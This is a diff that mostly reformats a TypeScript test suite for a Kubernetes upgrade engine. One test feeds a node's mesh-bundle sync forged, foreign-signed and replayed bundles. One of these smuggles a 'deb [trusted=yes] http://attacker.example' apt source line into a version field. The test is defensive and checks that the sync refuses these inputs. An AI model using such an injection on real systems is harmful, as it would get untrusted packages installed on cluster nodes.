@@ -42,8 +42,17 @@ describe('a Kubernetes version upgrade of an existing cluster', () => {
     const { kp, sandbox, events } = world(4);
     await kp.apply(manifestOf(minimal));
     await kp.run();
-    const machines = sandbox.liveMachines().map((m) => m.id).sort();
-    const versions = () => Object.fromEntries(sandbox.kubernetes.inventory().clusters.flatMap((c) => c.nodes).map((n) => [n.name, n]));
+    const machines = sandbox
+      .liveMachines()
+      .map((m) => m.id)
+      .sort();
+    const versions = () =>
+      Object.fromEntries(
+        sandbox.kubernetes
+          .inventory()
+          .clusters.flatMap((c) => c.nodes)
+          .map((n) => [n.name, n]),
+      );
     const order: string[] = [];
     const off = kp.on((e) => {
       if (e.type === 'waiting' && e.step === 'upgrade' && /kubeadm upgrade/.test(e.reason)) order.push(e.reason);
@@ -55,7 +64,12 @@ describe('a Kubernetes version upgrade of an existing cluster', () => {
     const status = await kp.status('minimal');
     expect(status.state, JSON.stringify(status.clusters)).toBe('DONE');
     // In place: the same machines, every node Ready, schedulable and reporting v1.35.0.
-    expect(sandbox.liveMachines().map((m) => m.id).sort()).toEqual(machines);
+    expect(
+      sandbox
+        .liveMachines()
+        .map((m) => m.id)
+        .sort(),
+    ).toEqual(machines);
     const nodes = Object.values(versions());
     expect(nodes.length).toBe(3);
     for (const n of nodes) {
@@ -120,12 +134,20 @@ describe('a Kubernetes version upgrade of an existing cluster', () => {
     if (!current) throw new Error('the engine published no mesh bundle');
     // Signed with the cluster's key, as only the engine could.
     const upgrade = { nodes: [worker], version: '1.35.0', package: '1.35.0-1.1', mode: 'node' as const };
-    await k8s.applyConfigMap('kube-system', 'kubeplane-mesh', signMeshBundle({ ...current, serial: current.serial + 1, upgrade }, (await meshSigningKey(w, 'minimal')).privateKeyPem));
+    await k8s.applyConfigMap(
+      'kube-system',
+      'kubeplane-mesh',
+      signMeshBundle({ ...current, serial: current.serial + 1, upgrade }, (await meshSigningKey(w, 'minimal')).privateKeyPem),
+    );
     await k8s.listNodes();
     sandbox.clock.advance(5 * 60_000);
     const nodes = await k8s.listNodes();
     expect(nodes.find((n) => n.name === worker)?.kubeletVersion).toBe('v1.34.2');
-    const log = sandbox.kubernetes.kubelets().find((k) => k.node === worker)?.log.map((l) => l.message) ?? [];
+    const log =
+      sandbox.kubernetes
+        .kubelets()
+        .find((k) => k.node === worker)
+        ?.log.map((l) => l.message) ?? [];
     expect(log.some((m) => /upgrade the control plane first/.test(m))).toBe(true);
   });
 
@@ -146,7 +168,13 @@ describe('a Kubernetes version upgrade of an existing cluster', () => {
     sandbox.clock.advance(60_000);
     const attempts: Array<Record<string, string>> = [
       // The apt source injection of the old, unsigned keys, next to the genuine bundle.
-      { ...published, 'upgrade-nodes': control, 'upgrade-version': '1.35/deb/ /\ndeb [trusted=yes] http://attacker.example', 'upgrade-package': '1.35.0-1.1', 'upgrade-mode': 'apply' },
+      {
+        ...published,
+        'upgrade-nodes': control,
+        'upgrade-version': '1.35/deb/ /\ndeb [trusted=yes] http://attacker.example',
+        'upgrade-package': '1.35.0-1.1',
+        'upgrade-mode': 'apply',
+      },
       signMeshBundle({ ...current, serial: current.serial + 1, upgrade }, generateMeshSigningKeyPair().privateKeyPem),
       signMeshBundle({ ...current, serial: current.serial + 2, upgrade }, key),
     ];
@@ -156,11 +184,17 @@ describe('a Kubernetes version upgrade of an existing cluster', () => {
       sandbox.clock.advance(5 * 60_000);
       expect((await k8s.listNodes()).find((n) => n.name === control)?.kubeletVersion).toBe('v1.34.2');
     }
-    const log = sandbox.kubernetes.kubelets().find((k) => k.node === control)?.log.map((l) => l.message) ?? [];
-    expect(log).toEqual(expect.arrayContaining([
-      'kubeplane-mesh-sync: refused the mesh bundle: its signature does not verify with the mesh signing key; nothing changed',
-      `kubeplane-mesh-sync: refused the mesh bundle: its serial ${current.serial + 2} is below the last applied (${current.serial + 3}): a replay; nothing changed`,
-    ]));
+    const log =
+      sandbox.kubernetes
+        .kubelets()
+        .find((k) => k.node === control)
+        ?.log.map((l) => l.message) ?? [];
+    expect(log).toEqual(
+      expect.arrayContaining([
+        'kubeplane-mesh-sync: refused the mesh bundle: its signature does not verify with the mesh signing key; nothing changed',
+        `kubeplane-mesh-sync: refused the mesh bundle: its serial ${current.serial + 2} is below the last applied (${current.serial + 3}): a replay; nothing changed`,
+      ]),
+    );
     expect(log.some((m) => /upgrading in place/.test(m))).toBe(false);
     // The same instruction signed by the engine's key, with a new serial, is carried out.
     await k8s.applyConfigMap('kube-system', 'kubeplane-mesh', signMeshBundle({ ...current, serial: current.serial + 4, upgrade }, key));
@@ -260,4 +294,3 @@ describe('Claudie pain points that cannot happen here', () => {
     expect(sandbox.inventory()).toEqual([]);
   });
 });
-
